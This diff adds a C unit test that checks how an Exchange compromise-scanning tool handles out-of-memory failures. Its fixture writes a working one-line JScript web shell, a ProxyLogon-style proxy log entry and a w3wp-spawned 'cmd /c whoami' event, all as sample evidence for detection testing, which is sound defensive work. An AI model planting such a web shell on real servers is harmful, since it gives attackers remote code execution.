@@ -1,0 +1,159 @@
+/* Issue 11 defect 13: running out of memory anywhere in a scan or a report
+ * gives an error value (EXH_ENOMEM) or a report with the file named, never
+ * an exit or a crash. Every allocation of a small scan is made to fail in
+ * turn (as sqlite's OOM tests do); the scan must come back each time.
+ * Memory held by the unwound frames is not freed by design (util.h,
+ * guards), so this test runs without the leak checker. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+#include <cmocka.h>
+
+#include "exhunt/exhunt.h"
+#include "util/util.h"
+
+static char root[256], events[300];
+
+static void put(const char *rel, const char *text) {
+  char path[512];
+  snprintf(path, sizeof path, "%s/%s", root, rel);
+  for (char *p = path + strlen(root) + 1; *p; p++)
+    if (*p == '/') {
+      *p = 0;
+      mkdir(path, 0755);
+      *p = '/';
+    }
+  FILE *f = fopen(path, "w");
+  assert_non_null(f);
+  fputs(text, f);
+  fclose(f);
+}
+
+static void make_tree(void) {
+  snprintf(root, sizeof root, "/tmp/exh-oom-XXXXXX");
+  assert_non_null(mkdtemp(root));
+  put("C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Ecp/HttpProxy_2021030303-1.LOG",
+      "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: HttpProxy Logs\r\n"
+      "#Date: 2021-03-03T03:00:00.000Z\r\n"
+      "#Fields: DateTime,RequestId,UrlStem,AnchorMailbox,UserAgent,ClientIpAddress,HttpStatus,BackEndStatus,Method,"
+      "RoutingHint,TargetServer\r\n"
+      "2021-03-03T03:10:07.000Z,r1,/ecp/y.js,ServerInfo~a]@exch01.contoso.local:444/mapi/emsmdb/?#,python-requests/2.25.1,"
+      "104.140.114.110,200,200,POST,X-BEResource-Cookie,EXCH01\r\n"
+      "2021-03-03T03:11:07.000Z,r2,/owa/,,Mozilla,10.0.0.5,200,200,GET,,EXCH01\r\n");
+  put("C/inetpub/wwwroot/aspnet_client/shell.aspx",
+      "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"pass\"],\"unsafe\");%>\n");
+  put("C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log",
+      "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-03-03 03:00:00\r\n"
+      "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
+      "cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n"
+      "2021-03-03 03:12:00 10.0.0.1 POST /aspnet_client/shell.aspx - 443 - 104.140.114.110 Mozilla - 200 0 0 5\r\n");
+  snprintf(events, sizeof events, "%s/events.jsonl", root);
+  FILE *f = fopen(events, "w");
+  assert_non_null(f);
+  fputs("{\"EventID\":4688,\"Channel\":\"Security\",\"NewProcessName\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\","
+        "\"ParentProcessName\":\"C:\\\\Windows\\\\System32\\\\inetsrv\\\\w3wp.exe\",\"CommandLine\":\"cmd /c whoami\","
+        "\"TimeCreated\":\"2021-03-03T03:13:00.000Z\"}\n",
+        f);
+  fclose(f);
+}
+
+static exh_ruleset *rules(void) {
+  exh_ruleset *rs;
+  assert_int_equal(exh_ruleset_new(&rs), EXH_OK);
+  assert_int_equal(exh_ruleset_add_builtin(rs), EXH_OK);
+  assert_int_equal(exh_ruleset_compile(rs), EXH_OK);
+  return rs;
+}
+
+static exh_err scan(exh_ruleset *rs, int threads, exh_result **res) {
+  const char *roots[] = {root, events};
+  exh_scan_opts o;
+  memset(&o, 0, sizeof o);
+  o.roots = roots;
+  o.nroots = 2;
+  o.threads = threads;
+  return exh_scan(rs, &o, res);
+}
+
+/* Allocation n of the scan fails, for n over the whole scan. */
+static void test_scan_oom(void **st) {
+  (void)st;
+  make_tree();
+  exh_ruleset *rs = rules();
+  for (int threads = 1; threads <= 2; threads++) {
+    exh_result *res = NULL;
+    exh_alloc_fail_at(UINT64_MAX); /* count only */
+    assert_int_equal(scan(rs, threads, &res), EXH_OK);
+    uint64_t total = exh_alloc_count();
+    exh_alloc_fail_at(0);
+    assert_true(total > 50);
+    assert_int_equal(res->servers[0].verdict, EXH_VERDICT_COMPROMISED);
+    exh_result_free(res);
+    uint64_t step = total / 400 + 1;
+    size_t enomem = 0, partial = 0;
+    for (uint64_t n = 1; n <= total + 1; n += step) {
+      res = NULL;
+      exh_alloc_fail_at(n);
+      exh_err rc = scan(rs, threads, &res);
+      exh_alloc_fail_at(0);
+      if (rc == EXH_ENOMEM) {
+        assert_null(res);
+        enomem++;
+        continue;
+      }
+      assert_int_equal(rc, EXH_OK);
+      assert_non_null(res);
+      assert_int_equal(res->nservers, 2);
+      /* a file whose reading ran out of memory is named */
+      for (size_t i = 0; i < res->nerrors; i++)
+        if (strstr(res->errors[i].reason, "out of memory")) partial++;
+      exh_result_free(res);
+    }
+    /* both outcomes happen: failures in the driver and inside a file */
+    assert_true(enomem > 0);
+    assert_true(partial > 0);
+  }
+  exh_ruleset_free(rs);
+}
+
+/* Allocation n of a report fails: EXH_ENOMEM, never a crash. */
+static void test_report_oom(void **st) {
+  (void)st;
+  exh_ruleset *rs = rules();
+  exh_result *res = NULL;
+  assert_int_equal(scan(rs, 1, &res), EXH_OK);
+  exh_err (*const fns[])(FILE *, const exh_result *, const exh_report_opts *) = {
+      exh_report_text, exh_report_jsonl, exh_report_csv, exh_report_timesketch, exh_report_html};
+  exh_report_opts ro = {0, 1};
+  for (size_t k = 0; k < sizeof fns / sizeof fns[0]; k++) {
+    FILE *f = fopen("/dev/null", "w");
+    exh_alloc_fail_at(UINT64_MAX);
+    assert_int_equal(fns[k](f, res, &ro), EXH_OK);
+    uint64_t total = exh_alloc_count();
+    exh_alloc_fail_at(0);
+    for (uint64_t n = 1; n <= total; n++) {
+      exh_alloc_fail_at(n);
+      exh_err rc = fns[k](f, res, &ro);
+      exh_alloc_fail_at(0);
+      assert_true(rc == EXH_OK || rc == EXH_ENOMEM);
+    }
+    fclose(f);
+  }
+  exh_result_free(res);
+  exh_ruleset_free(rs);
+}
+
+int main(void) {
+  const struct CMUnitTest tests[] = {cmocka_unit_test(test_scan_oom), cmocka_unit_test(test_report_oom)};
+  int rc = cmocka_run_group_tests(tests, NULL, NULL);
+  char cmd[300];
+  snprintf(cmd, sizeof cmd, "rm -rf '%s'", root);
+  if (root[0] && system(cmd) != 0) rc = 1;
+  return rc;
+}
